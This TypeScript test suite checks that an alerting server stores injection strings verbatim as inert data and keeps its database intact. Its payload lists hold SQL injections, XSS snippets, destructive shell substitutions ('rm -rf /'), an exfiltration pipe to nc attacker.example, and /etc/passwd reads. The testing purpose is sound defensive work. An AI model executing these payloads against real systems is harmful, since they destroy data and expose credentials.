// Loaded first: the contract's DTO decorators, imported through the server, need it.
import 'reflect-metadata';
import type { Alert, Device } from '@app/contracts';
import { stopAndRemove } from './support/lifecycle';
import {
  bearer,
  openStore,
  provisionDevice,
  provisionOperator,
  query,
  send,
  signIn,
} from './support/security';
import { TestServer, startTestServer } from './support/test-server';
import { alertBody } from './support/vigie-api';

/**
 * Issue 5: strings built to inject SQL, HTML or shell, in every text field an alert carries
 * (location, message, button, the notes, and the operator's name that becomes `by`), are stored
 * and returned verbatim, and the store is intact afterwards. (That the page shows them inert is
 * the browser suite's part.)
 */

const PASSWORD = 'correct horse battery';

const INJECTIONS = [
  // SQL
  "'); DROP TABLE alerts;--",
  "' OR '1'='1",
  '" OR ""="',
  '1; DELETE FROM sessions WHERE 1=1; --',
  "x' UNION SELECT password_hash FROM operators --",
  // HTML / script
  '<img src=x onerror=alert(1)>',
  '<script>alert(document.cookie)</script>',
  '"><svg onload=alert(1)>',
  'javascript:alert(1)',
  '&lt;b&gt; &amp; &#x3C;script&#x3E;',
  '{{constructor.constructor("alert(1)")()}}',
  // Shell
  '$(rm -rf /)',
  '`rm -rf /`',
  '; cat /etc/passwd',
  '| nc attacker.example 4444',
  '${IFS}$(id)',
  // Formats and escapes
  '%s%s%s%n',
  '\\x00\\n\\u0000',
  '../../../../etc/passwd',
];

/** Operator names made to inject (≤ 64 characters, no control characters: what `operator add` takes). */
const OPERATOR_NAMES = [
  "Robert'); DROP TABLE operators;--",
  '<img src=x onerror=alert(1)>',
  '$(rm -rf /) `id`',
];

describe('security: injection strings are data', () => {
  let server: TestServer;
  let url: string;
  let token: string;
  const sessions: string[] = [];

  beforeAll(async () => {
    server = await startTestServer({ VIGIE_AUTH: 'required' });
    url = server.url;
    token = await provisionDevice(server, 'pi-inject');
    for (const name of OPERATOR_NAMES) {
      await provisionOperator(server, name, PASSWORD);
      sessions.push(await signIn(url, name, PASSWORD));
    }
  });

  afterAll(() => stopAndRemove(server));

  it.each(INJECTIONS.map((text, index) => ({ text, index })))(
    'an alert carrying $text in every field, acknowledged and resolved with it as the note',
    async ({ text, index }) => {
      const location = text.slice(0, 120);
      const button = text.slice(0, 32);
      const body = alertBody({ deviceId: 'pi-inject', location, message: text, button });
      const created = await send(url, 'POST', '/alerts', { body, headers: bearer(token) });
      expect(created.status).toBe(201);
      expect(created.json).toMatchObject({ location, message: text, button });

      const operator = index % OPERATOR_NAMES.length;
      const cookie = { Cookie: sessions[operator] };
      const acknowledged = await send(url, 'POST', `/alerts/${body.id as string}/acknowledge`, {
        body: { note: text },
        headers: cookie,
      });
      expect(acknowledged.status).toBe(200);
      const resolved = await send(url, 'POST', `/alerts/${body.id as string}/resolve`, {
        body: { note: text },
        headers: cookie,
      });
      expect(resolved.status).toBe(200);

      const read = await send(url, 'GET', `/alerts/${body.id as string}`, { headers: cookie });
      expect(read.status).toBe(200);
      expect(read.headers['content-type']).toMatch(/^application\/json/);
      expect(read.headers['x-content-type-options']).toBe('nosniff');
      // Verbatim: the raw JSON text decodes to exactly what was sent.
      expect(read.json).toMatchObject({
        id: body.id as string,
        location,
        message: text,
        button,
        status: 'resolved',
        acknowledgedBy: OPERATOR_NAMES[operator],
        resolvedBy: OPERATOR_NAMES[operator],
        resolutionNote: text,
      } satisfies Partial<Alert>);

      const [row] = query(
        server,
        'SELECT location, message, button, acknowledged_by, acknowledgement_note, resolved_by, resolution_note FROM alerts WHERE id = ?',
        body.id,
      );
      expect(row).toEqual({
        location,
        message: text,
        button,
        acknowledged_by: OPERATOR_NAMES[operator],
        acknowledgement_note: text,
        resolved_by: OPERATOR_NAMES[operator],
        resolution_note: text,
      });

      const listed = await send(url, 'GET', '/alerts?deviceId=pi-inject&limit=500', { headers: cookie });
      const match = (listed.json as { items: Alert[] }).items.find((alert) => alert.id === body.id);
      expect(match).toMatchObject({ message: text, location });
    },
  );

  it('a heartbeat carrying them: the device is listed with them verbatim', async () => {
    const text = INJECTIONS.join(' ').slice(0, 120);
    const agentVersion = "1.0'; DROP TABLE devices;--".slice(0, 32);
    const res = await send(url, 'PUT', '/devices/pi-inject/heartbeat', {
      body: { location: text, agentVersion },
      headers: bearer(token),
    });
    expect(res.status).toBe(204);
    const devices = await send(url, 'GET', '/devices', { headers: { Cookie: sessions[0] } });
    expect((devices.json as Device[]).find((device) => device.id === 'pi-inject')).toMatchObject({
      location: text,
      agentVersion,
    });
  });

  it('a sign-in with them as name or password is a plain 401, and changes nothing', async () => {
    for (const text of INJECTIONS) {
      const res = await send(url, 'POST', '/auth/login', {
        body: { name: text, password: text.padEnd(10, ' ') },
        headers: { 'X-Forwarded-For': `10.77.0.${INJECTIONS.indexOf(text) + 1}` },
      });
      expect([text, res.status]).toEqual([text, 401]);
    }
    expect(
      query<{ name: string }>(server, 'SELECT name FROM operators ORDER BY name').map((row) => row.name),
    ).toEqual([...OPERATOR_NAMES].sort());
  });

  it('the store is intact: every table there, the counts right, integrity ok', () => {
    const db = openStore(server);
    try {
      const tables = (
        db.prepare("SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name").all() as Array<{
          name: string;
        }>
      ).map((row) => row.name);
      expect(tables).toEqual(
        expect.arrayContaining(['alerts', 'devices', 'device_credentials', 'operators', 'sessions']),
      );
      expect(db.prepare('SELECT count(*) AS n FROM alerts').get()).toEqual({ n: INJECTIONS.length });
      expect(db.prepare('SELECT count(*) AS n FROM operators').get()).toEqual({ n: OPERATOR_NAMES.length });
      expect(db.prepare('SELECT count(*) AS n FROM sessions').get()).toEqual({ n: OPERATOR_NAMES.length });
      expect(
        db.prepare('SELECT count(*) AS n FROM device_credentials WHERE revoked_at IS NULL').get(),
      ).toEqual({ n: 1 });
      expect(db.pragma('integrity_check', { simple: true })).toBe('ok');
    } finally {
      db.close();
    }
  });
});
